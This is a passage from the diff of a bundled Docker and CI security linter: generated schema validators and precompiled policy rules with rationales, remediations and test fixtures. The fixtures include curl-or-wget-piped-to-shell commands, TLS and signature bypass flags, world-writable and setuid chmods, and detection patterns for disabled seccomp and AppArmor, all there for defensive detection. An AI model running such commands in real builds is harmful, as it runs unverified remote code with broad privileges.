+                          if (vErrors === null) {
+                            vErrors = [err66];
+                          } else {
+                            vErrors.push(err66);
+                          }
+                          errors++;
+                        }
+                      }
+                    }
+                    if (data26.endLine !== void 0) {
+                      let data29 = data26.endLine;
+                      if (!(typeof data29 == "number" && (!(data29 % 1) && !isNaN(data29)))) {
+                        const err67 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/endLine", schemaPath: "#/properties/tests/items/properties/expect/items/properties/endLine/type", keyword: "type", params: { type: "integer" }, message: "must be integer" };
+                        if (vErrors === null) {
+                          vErrors = [err67];
+                        } else {
+                          vErrors.push(err67);
+                        }
+                        errors++;
+                      }
+                      if (typeof data29 == "number") {
+                        if (data29 < 1 || isNaN(data29)) {
+                          const err68 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/endLine", schemaPath: "#/properties/tests/items/properties/expect/items/properties/endLine/minimum", keyword: "minimum", params: { comparison: ">=", limit: 1 }, message: "must be >= 1" };
+                          if (vErrors === null) {
+                            vErrors = [err68];
+                          } else {
+                            vErrors.push(err68);
+                          }
+                          errors++;
+                        }
+                      }
+                    }
+                    if (data26.endColumn !== void 0) {
+                      let data30 = data26.endColumn;
+                      if (!(typeof data30 == "number" && (!(data30 % 1) && !isNaN(data30)))) {
+                        const err69 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/endColumn", schemaPath: "#/properties/tests/items/properties/expect/items/properties/endColumn/type", keyword: "type", params: { type: "integer" }, message: "must be integer" };
+                        if (vErrors === null) {
+                          vErrors = [err69];
+                        } else {
+                          vErrors.push(err69);
+                        }
+                        errors++;
+                      }
+                      if (typeof data30 == "number") {
+                        if (data30 < 1 || isNaN(data30)) {
+                          const err70 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/endColumn", schemaPath: "#/properties/tests/items/properties/expect/items/properties/endColumn/minimum", keyword: "minimum", params: { comparison: ">=", limit: 1 }, message: "must be >= 1" };
+                          if (vErrors === null) {
+                            vErrors = [err70];
+                          } else {
+                            vErrors.push(err70);
                           }
                           errors++;
                         }
                       }
                     }
                   } else {
-                    const err61 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2, schemaPath: "#/properties/tests/items/properties/expect/items/type", keyword: "type", params: { type: "object" }, message: "must be object" };
+                    const err71 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2, schemaPath: "#/properties/tests/items/properties/expect/items/type", keyword: "type", params: { type: "object" }, message: "must be object" };
                     if (vErrors === null) {
-                      vErrors = [err61];
+                      vErrors = [err71];
                     } else {
-                      vErrors.push(err61);
+                      vErrors.push(err71);
                     }
                     errors++;
                   }
                 }
               } else {
-                const err62 = { instancePath: instancePath + "/tests/" + i1 + "/expect", schemaPath: "#/properties/tests/items/properties/expect/type", keyword: "type", params: { type: "array" }, message: "must be array" };
+                const err72 = { instancePath: instancePath + "/tests/" + i1 + "/expect", schemaPath: "#/properties/tests/items/properties/expect/type", keyword: "type", params: { type: "array" }, message: "must be array" };
                 if (vErrors === null) {
-                  vErrors = [err62];
+                  vErrors = [err72];
                 } else {
-                  vErrors.push(err62);
+                  vErrors.push(err72);
                 }
                 errors++;
               }
             }
           } else {
-            const err63 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/type", keyword: "type", params: { type: "object" }, message: "must be object" };
+            const err73 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/type", keyword: "type", params: { type: "object" }, message: "must be object" };
             if (vErrors === null) {
-              vErrors = [err63];
+              vErrors = [err73];
             } else {
-              vErrors.push(err63);
+              vErrors.push(err73);
             }
             errors++;
           }
         }
       } else {
-        const err64 = { instancePath: instancePath + "/tests", schemaPath: "#/properties/tests/type", keyword: "type", params: { type: "array" }, message: "must be array" };
+        const err74 = { instancePath: instancePath + "/tests", schemaPath: "#/properties/tests/type", keyword: "type", params: { type: "array" }, message: "must be array" };
         if (vErrors === null) {
-          vErrors = [err64];
+          vErrors = [err74];
         } else {
-          vErrors.push(err64);
+          vErrors.push(err74);
         }
         errors++;
       }
     }
   } else {
-    const err65 = { instancePath, schemaPath: "#/type", keyword: "type", params: { type: "object" }, message: "must be object" };
+    const err75 = { instancePath, schemaPath: "#/type", keyword: "type", params: { type: "object" }, message: "must be object" };
     if (vErrors === null) {
-      vErrors = [err65];
+      vErrors = [err75];
     } else {
-      vErrors.push(err65);
+      vErrors.push(err75);
     }
     errors++;
   }
@@ -55536,10 +55647,10 @@ var validators = [
   ['{"if":{"required":["untrustedExpressions"]},"then":{"properties":{"run":false}}}', v83],
   ['{"$id":"https://containment.dev/schemas/config.json","type":"object","additionalProperties":false,"properties":{"fail-on":{"enum":["critical","high","medium","low","info","none"]},"exclude":{"type":"array","items":{"type":"string"}},"packs":{"type":"object","additionalProperties":{"type":"boolean"}},"rules":{"type":"object","additionalProperties":{"anyOf":[{"const":"off"},{"enum":["critical","high","medium","low","info"]},{"type":"object","additionalProperties":false,"properties":{"enabled":{"type":"boolean"},"severity":{"enum":["critical","high","medium","low","info"]},"params":{"type":"object"},"exclude":{"type":"array","items":{"type":"string"}}}}]}},"suppressions":{"type":"object","additionalProperties":false,"properties":{"in-pull-request":{"enum":["none","up-to-info","up-to-low","up-to-medium","up-to-high","all"]}}}}}', v84],
   ['{"$id":"https://containment.dev/schemas/pack.json","type":"object","additionalProperties":false,"required":["id","title","description","version"],"properties":{"id":{"type":"string","pattern":"^[a-z0-9]+(-[a-z0-9]+)*$"},"title":{"type":"string","minLength":1},"description":{"type":"string","minLength":1},"version":{"type":"string","minLength":1},"sources":{"type":"array","items":{"type":"string"}}}}', v85],
-  ['{"$id":"https://containment.dev/schemas/rule.json","type":"object","additionalProperties":false,"required":["id","title","severity","subject","schema","message","rationale","remediation","references","tests"],"properties":{"id":{"type":"string","pattern":"^[a-z0-9]+(-[a-z0-9]+)*$"},"title":{"type":"string","minLength":1},"severity":{"enum":["critical","high","medium","low","info"]},"subject":{"enum":["container","image","command","dockerfile","dockerfile.stage","compose","workflow","workflow.job","workflow.step","action-ref"]},"when":{"type":"object"},"schema":{"type":"object"},"message":{"type":"string","minLength":1},"rationale":{"type":"string","minLength":1},"remediation":{"type":"string","minLength":1},"references":{"type":"array","minItems":1,"items":{"type":"object","minProperties":1,"maxProperties":1,"additionalProperties":false,"properties":{"cis-docker":{"type":"string","pattern":"^\\\\d+\\\\.\\\\d+\\\\.\\\\d+:\\\\d+(\\\\.\\\\d+)*$"},"owasp-docker":{"type":"string","pattern":"^RULE #\\\\d+[a-z]?$"},"docker-build-check":{"type":"string","pattern":"^[A-Za-z]+$"},"url":{"type":"string","pattern":"^https://"}}}},"params":{"type":"object"},"tests":{"type":"array","minItems":2,"items":{"type":"object","additionalProperties":false,"required":["file","content","expect"],"properties":{"file":{"type":"string","minLength":1},"content":{"type":"string"},"files":{"type":"object","additionalProperties":{"type":"string"}},"expect":{"type":"array","items":{"type":"object","additionalProperties":false,"required":["line","column"],"properties":{"line":{"type":"integer","minimum":1},"column":{"type":"integer","minimum":1},"endLine":{"type":"integer","minimum":1},"endColumn":{"type":"integer","minimum":1}}}}}}}}}', v86]
+  ['{"$id":"https://containment.dev/schemas/rule.json","type":"object","additionalProperties":false,"required":["id","title","severity","subject","schema","message","rationale","remediation","references","tests"],"properties":{"id":{"type":"string","pattern":"^[a-z0-9]+(-[a-z0-9]+)*$"},"title":{"type":"string","minLength":1},"severity":{"enum":["critical","high","medium","low","info"]},"subject":{"enum":["container","image","command","dockerfile","dockerfile.stage","compose","workflow","workflow.job","workflow.step","action-ref"]},"when":{"type":"object"},"schema":{"type":"object"},"message":{"type":"string","minLength":1},"rationale":{"type":"string","minLength":1},"remediation":{"type":"string","minLength":1},"references":{"type":"array","minItems":1,"items":{"type":"object","minProperties":1,"maxProperties":1,"additionalProperties":false,"properties":{"cis-docker":{"type":"string","pattern":"^\\\\d+\\\\.\\\\d+\\\\.\\\\d+:\\\\d+(\\\\.\\\\d+)*$"},"owasp-docker":{"type":"string","pattern":"^RULE #\\\\d+[a-z]?$"},"docker-build-check":{"type":"string","pattern":"^[A-Za-z]+$"},"url":{"type":"string","pattern":"^https://"}}}},"params":{"type":"object","propertyNames":{"pattern":"^[A-Za-z][A-Za-z0-9]*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["description","schema","default"],"properties":{"description":{"type":"string","minLength":1},"schema":{"type":"object"},"default":{}}}},"tests":{"type":"array","minItems":2,"items":{"type":"object","additionalProperties":false,"required":["file","content","expect"],"properties":{"file":{"type":"string","minLength":1},"content":{"type":"string"},"files":{"type":"object","additionalProperties":{"type":"string"}},"expect":{"type":"array","items":{"type":"object","additionalProperties":false,"required":["line","column"],"properties":{"line":{"type":"integer","minimum":1},"column":{"type":"integer","minimum":1},"endLine":{"type":"integer","minimum":1},"endColumn":{"type":"integer","minimum":1}}}}}}}}}', v86]
 ];
 function precompiled() {
-  packs ??= JSON.parse('[{"id":"docker","title":"Docker runtime and image security","description":"What Docker\'s own security guidance, the CIS Docker Benchmark v1.6.0 (sections 4 and 5) and the OWASP Docker Security Cheat Sheet ask of every container and image, wherever it is described: Compose services, workflow job and service containers, `docker run` in scripts, Dockerfiles.","version":"0.1.0","rules":[{"id":"command-chmod-insecure","pack":"docker","title":"Build makes files world-writable or adds setuid/setgid bits","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"if":{"properties":{"name":{"const":"chmod"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"insecureMode"}}}}}}},"message":"`chmod {{value}}` makes files in the image world-writable or setuid/setgid, so any process in the container can replace them, or a bug in a setuid program becomes root. Give the files to the user that needs them (`COPY --chown`, `chown`) with a mode such as `755` or `644`.","rationale":"World-writable files and directories let any user in the container alter programs and configuration that others (including root) then run; `chmod 777` is usually a shortcut around an ownership problem. Setuid and setgid bits give a program its owner\'s or group\'s privileges whoever runs it, which makes every bug in it a privilege escalation. The CIS Docker Benchmark (4.8) asks that setuid and setgid permissions be removed from images. The sticky-bit mode `1777` (a shared temp directory) is not reported.","remediation":"Give ownership to the runtime user instead of opening the permissions to everyone:\\n\\n```dockerfile\\nCOPY --chown=10001:10001 app/ /app/\\nRUN mkdir -p /app/data && chown 10001:10001 /app/data && chmod 750 /app/data\\nUSER 10001\\n```\\n\\nTo strip setuid and setgid bits from a base image:\\n`RUN find / -xdev -perm /6000 -type f -exec chmod a-s {} + || true`.","references":[{"framework":"cis-docker","id":"1.6.0:4.8"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"insecureMode":"^0?[0-7]{2}[2367]$|^[2-7][0-7]{3}$|(^|,)[ug]*[oa][ugoa]*[+=][rxXst]*w|[+=][rwxXt]*s"},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/data && chmod -R 777 /app/data\\nRUN chmod u+s /usr/local/bin/helper\\nRUN [\\"chmod\\", \\"4755\\", \\"/usr/local/bin/backup\\"]\\nRUN chmod a+rw /etc/app.conf\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49},{"line":3,"column":1},{"line":4,"column":1},{"line":5,"column":1}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/tmp && chmod 1777 /app/tmp \\\\\\n && chmod 755 /usr/local/bin/entrypoint.sh \\\\\\n && chmod go-w /etc/app.conf \\\\\\n && chmod a-s /usr/bin/newgrp \\\\\\n && chmod u+x,g+x /usr/local/bin/run\\n","expect":[]}],"source":"policies/docker/command-chmod-insecure.yaml"},{"id":"command-download-piped-to-shell","pack":"docker","title":"Downloaded script piped straight into a shell","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"enum":{"$param":"downloaders"}}}},"then":{"properties":{"pipedTo":{"not":{"enum":{"$param":"shells"}}}}}},{"if":{"properties":{"name":{"enum":["sh","bash","dash","ash","zsh","ksh","mksh","eval"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"substitutedDownload"}}}}}}}]},"message":"`{{subject.name}}` runs a script fetched from the network without checking it, so whoever controls that URL (or the connection) runs code here, with this build\'s or job\'s access. Download to a file, verify its checksum or signature, then run it, or install the tool from a package with a pinned version.","rationale":"`curl \u2026 | sh` executes whatever the server returns at that moment: a compromised or hijacked host, a changed install script or a truncated download runs with the privileges of the build (root, in most Dockerfiles) or of the CI job (with its token and secrets). Nothing in the repository records what ran, so the result cannot be reproduced or audited. The CIS Docker Benchmark (4.11) asks that only verified packages be installed, and the OWASP cheat sheet (rule 9) treats unverified downloads as a supply-chain risk.","remediation":"Fetch a pinned version to a file, check it against a published digest, then run it:\\n\\n```dockerfile\\nARG INSTALLER_SHA256=<sha256 of install.sh at v1.2.0>\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"${INSTALLER_SHA256}  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh && rm /tmp/install.sh\\n```\\n\\nBetter still, install the tool from the distribution\'s package manager or copy it from a\\npinned image (`COPY --from=ghcr.io/example/tool:1.2.0@sha256:\u2026 /tool /usr/local/bin/`).","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"owasp-docker","id":"RULE #9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{"downloaders":["curl","wget"],"shells":["sh","bash","dash","ash","zsh","ksh","mksh","python","python3","perl","ruby","node","php"],"substitutedDownload":"^\\\\$\\\\((curl|wget)\\\\s"},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN wget -qO- https://get.example.com/install.sh | sudo sh\\nRUN sh -c \\"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\\"\\n","expect":[{"line":3,"column":2,"endLine":3,"endColumn":62},{"line":5,"column":1},{"line":6,"column":1}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh\\nRUN curl -fsSL https://example.com/data.json | jq .version\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b /usr/local/bin\\n          golangci-lint run\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL https://api.github.com/repos/example/app/releases/latest | jq -r .tag_name\\n","expect":[]}],"source":"policies/docker/command-download-piped-to-shell.yaml"},{"id":"command-tls-verification-disabled","pack":"docker","title":"Command turns off TLS certificate or package signature checks","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"const":"curl"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--insecure$|-[a-zA-Z]*k)"}}}}}},{"if":{"properties":{"name":{"const":"wget"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--no-check-certificate"}}}}}},{"if":{"properties":{"name":{"enum":["apt-get","apt","aptitude"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(allow-unauthenticated|allow-insecure-repositories|force-yes)$|Verify-(Peer|Host)=(false|0)$|AllowUnauthenticated=(true|1)$"}}}}}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf","zypper"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(nogpgcheck|no-gpg-checks)$|^--setopt=(sslverify|gpgcheck|repo_gpgcheck)=(0|false|False)$"}}}}}},{"if":{"properties":{"name":{"const":"rpm"}}},"then":{"properties":{"args":{"items":{"not":{"enum":["--nosignature","--nodigest"]}}}}}},{"if":{"properties":{"name":{"const":"apk"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--allow-untrusted"}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3","python","python3","uv"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--trusted-host(=|$)"}}}}}},{"if":{"properties":{"name":{"enum":["npm","yarn","pnpm"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--)?strict-ssl(=false)?$"}}}}}},{"if":{"properties":{"name":{"const":"git"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^http\\\\..*[sS][sS][lL][vV][eE][rR][iI][fF][yY](=(false|0|no|off))?$"}}}}}}]},"message":"`{{subject.name}}` is told to skip certificate or signature checks (`{{value}}`), so anyone who can intercept or spoof the server can hand it different code or packages. Remove the option and fix the trust problem instead: install the CA certificate, or import the repository\'s signing key.","rationale":"TLS certificates and package signatures are what tie a download to its publisher. Options such as `curl -k`, `wget --no-check-certificate`, `apt-get --allow-unauthenticated`, `--nogpgcheck`, `apk --allow-untrusted`, `pip --trusted-host`, npm\'s `strict-ssl false` and git\'s `http.sslVerify=false` accept whatever answers, which turns a network position (a proxy, a rogue Wi-Fi, a poisoned DNS entry, a compromised mirror) into code execution in the image or the CI job. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Keep verification on and give the tool what it needs to verify:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates \\\\\\n && curl -fsSLo /tmp/tool.tgz https://tools.example.com/tool-1.2.0.tgz\\n```\\n\\nFor a third-party package repository, import its signing key (`signed-by=` in the apt source)\\ninstead of allowing unauthenticated packages.","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSLk https://tools.example.com/tool.tgz -o /tmp/tool.tgz \\\\\\n && wget --no-check-certificate -q https://example.com/a.tgz\\nRUN apt-get install -y --allow-unauthenticated internal-agent\\nRUN pip install --trusted-host pypi.example.com internal-lib==1.0\\nRUN git -c http.sslVerify=false clone https://git.example.com/app.git\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":68},{"line":3,"column":2},{"line":4,"column":1},{"line":5,"column":1},{"line":6,"column":1}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache --allow-untrusted /tmp/pkgs/*.apk\\nRUN npm config set strict-ssl false\\n","expect":[{"line":2,"column":1},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSL -o /tmp/tool.tgz https://tools.example.com/tool.tgz \\\\\\n && git -c http.sslVerify=true clone https://github.com/example/app.git\\nRUN apt-get install -y --no-install-recommends ca-certificates\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN sort -k 2 /etc/passwd\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl --insecure -fsSL https://staging.example.com/healthz\\n          git -c http.sslVerify=true fetch origin\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":68}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL --cacert ./ca.pem https://staging.example.com/healthz\\n","expect":[]}],"source":"policies/docker/command-tls-verification-disabled.yaml"},{"id":"container-capabilities-not-dropped","pack":"docker","title":"Container keeps Docker\'s default capabilities (no cap_drop ALL)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"cap_drop":{"not":{"items":{"not":{"const":"ALL"}}}}}},"message":"{{name}} keeps Docker\'s default capabilities (CHOWN, DAC_OVERRIDE, FOWNER, SETUID, NET_RAW, \u2026), which a compromised process can use to change file ownership, switch users or craft raw packets. Add `cap_drop: [ALL]` and add back with `cap_add` only what the service needs.","rationale":"Docker grants every container fourteen capabilities by default, chosen for compatibility, not for any particular workload. Most services need none or one of them (`NET_BIND_SERVICE` for a port below 1024). `NET_RAW` alone allows ARP and DNS spoofing on the container network, and `DAC_OVERRIDE`, `FOWNER`, `SETUID` and `SETGID` make a compromise inside the container easier to turn into root. The CIS Docker Benchmark and the OWASP cheat sheet ask to drop every capability and add back only the required ones. Informational by default: images that switch users or change file ownership at start-up need a few capabilities added back, which takes testing.","remediation":"Drop all capabilities and add back only what the service needs:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nShared hardening can live in an `x-` block merged into every service with `<<: *hardening`.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    cap_drop: [NET_RAW]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  cap_drop: [all]\\nservices:\\n  api:\\n    <<: *hardening\\n    image: ghcr.io/example/api:1.4.2\\n  web:\\n    image: nginx:1.27\\n    cap_drop:\\n      - ALL\\n    cap_add:\\n      - NET_BIND_SERVICE\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-capabilities-not-dropped.yaml"},{"id":"container-cgroup-host","pack":"docker","title":"Container uses the host\'s cgroup namespace or a custom cgroup parent","severity":"medium","subject":"container","schema":{"properties":{"cgroup":{"not":{"const":"host"}},"cgroup_parent":false}},"message":"{{name}} sets `{{key}}`, which takes it out of the cgroup Docker manages for it, so its resource limits and accounting depend on a cgroup outside Docker\'s control (or, with `cgroup: host`, it sees the host\'s whole cgroup tree). Remove the setting unless the host\'s cgroup layout was designed for it.","rationale":"Docker places each container in its own cgroup under the daemon\'s parent, which is where its memory, CPU and PID limits are enforced. `cgroup_parent` moves it under another cgroup whose limits this file does not show, and `cgroup: host` shares the host\'s cgroup namespace, exposing every host cgroup to the container (and, with a writable cgroupfs, a known escape path). The CIS Docker Benchmark (5.25) asks that cgroup usage be confirmed and that the default be kept.","remediation":"Remove `cgroup_parent` and `cgroup: host` (or `--cgroup-parent`, `--cgroupns host`) and let\\nDocker manage the container\'s cgroup; set limits with `mem_limit`, `cpus` and `pids_limit`:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n    mem_limit: 512m\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.25"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#cgroup"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  monitor:\\n    image: ghcr.io/example/monitor:1.0.0\\n    cgroup: host\\n  batch:\\n    image: ghcr.io/example/batch:1.0.0\\n    cgroup_parent: /batch.slice\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":17},{"line":7,"column":5}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --cgroupns=host ghcr.io/example/monitor:1.0.0\\n          docker run --rm --cgroup-parent /ci.slice alpine:3.20 true\\n","expect":[{"line":7,"column":11},{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      monitor:\\n        image: ghcr.io/example/monitor:1.0.0\\n        options: --cgroupns host\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cgroupns private\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/docker/container-cgroup-host.yaml"},{"id":"container-confinement-disabled","pack":"docker","title":"Container runs without seccomp, AppArmor or SELinux confinement","severity":"high","subject":"container","schema":{"properties":{"security_opt":{"items":{"not":{"pattern":{"$param":"disablingOptions"}}}}}},"message":"{{name}} switches off a kernel security layer with `{{value}}`, so an exploit inside it meets none of the system-call or mandatory-access-control filtering Docker applies by default. Remove the option; if the default profile blocks something the workload needs, write a custom profile that allows just that.","rationale":"Docker confines every container with a seccomp filter that blocks dangerous system calls, an AppArmor profile (`docker-default`) or an SELinux label, and masks sensitive `/proc` and `/sys` paths. These layers are what stop many kernel exploits and container escapes even when the process runs as root. `seccomp=unconfined`, `apparmor=unconfined`, `label=disable` and `systempaths=unconfined` each remove one of them for the whole container. The CIS Docker Benchmark and the OWASP cheat sheet ask that the default profiles stay on.","remediation":"Remove the option. If a system call or file access is genuinely needed, start from Docker\'s\\ndefault profile and allow only that:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - seccomp=./seccomp/app.json   # the default profile plus the one syscall needed\\n      - no-new-privileges=true\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.22"},{"framework":"cis-docker","id":"1.6.0:5.2"},{"framework":"cis-docker","id":"1.6.0:5.3"},{"framework":"owasp-docker","id":"RULE #6"},{"framework":"url","url":"https://docs.docker.com/engine/security/seccomp/"},{"framework":"url","url":"https://docs.docker.com/engine/security/apparmor/"}],"params":{"disablingOptions":"^(seccomp|apparmor|systempaths)=\\\\s*unconfined$|^label=\\\\s*disable$"},"tests":[{"file":"compose.yaml","content":"services:\\n  chrome:\\n    image: browserless/chrome:1.61\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp:unconfined\\n      - \\"apparmor=unconfined\\"\\n      - label:disable\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":27},{"line":7,"column":9},{"line":8,"column":9}]},{"file":"compose.yaml","content":"x-unconfined: &unconfined\\n  security_opt: [seccomp=unconfined]\\nservices:\\n  builder:\\n    <<: *unconfined\\n    image: moby/buildkit:v0.16.0\\n","expect":[{"line":2,"column":18}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp=./seccomp/app.json\\n      - apparmor=docker-default\\n      - label=type:svirt_apache_t\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  browser-tests:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: mcr.microsoft.com/playwright:v1.48.0-noble\\n      options: --security-opt seccomp=unconfined --ipc private\\n    steps:\\n      - run: npx playwright test\\n","expect":[{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --security-opt apparmor:unconfined \\\\\\n            --security-opt label=disable moby/buildkit:v0.16.0 --version\\n","expect":[{"line":7,"column":11},{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --security-opt no-new-privileges --security-opt seccomp=${{ inputs.profile }}\\n    steps:\\n      - run: docker run --rm --security-opt seccomp=/etc/docker/seccomp.json alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-confinement-disabled.yaml"},{"id":"container-dangerous-capability","pack":"docker","title":"Container adds a dangerous Linux capability","severity":"high","subject":"container","schema":{"properties":{"cap_add":{"items":{"not":{"enum":{"$param":"dangerousCapabilities"}}}}}},"message":"{{name}} adds the {{value}} capability, which lets a compromised process reach past the container into the host kernel. Remove it, or replace it with the narrow capability the workload actually needs after `cap_drop: [ALL]`.","rationale":"Docker starts containers with a short list of capabilities and withholds the ones that act on the whole machine. `ALL` and `SYS_ADMIN` come close to privileged mode (mounting filesystems, escaping through cgroups); `SYS_MODULE` loads kernel code; `SYS_PTRACE` reads and alters other processes; `DAC_READ_SEARCH` opens any host file by handle (the \\"shocker\\" escape); `SYS_RAWIO`, `SYS_BOOT` and `SYS_TIME` touch devices, reboots and the host clock; `NET_ADMIN` reconfigures interfaces, routes and firewall rules; `BPF` and `PERFMON` load and observe kernel programs; `MAC_ADMIN`/`MAC_OVERRIDE` change or bypass AppArmor and SELinux; `SYSLOG` and `LINUX_IMMUTABLE` affect host logs and file flags. The CIS Docker Benchmark and the OWASP cheat sheet both ask to add only the capabilities a workload needs; the list is the `dangerousCapabilities` parameter.","remediation":"Drop every capability and add back only the specific one the process needs:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nFor a workflow\'s `options:` or a `docker run`, write `--cap-drop ALL --cap-add NET_BIND_SERVICE`.\\nA VPN or network tool that truly needs `NET_ADMIN` belongs on a dedicated host, not next to\\napplication 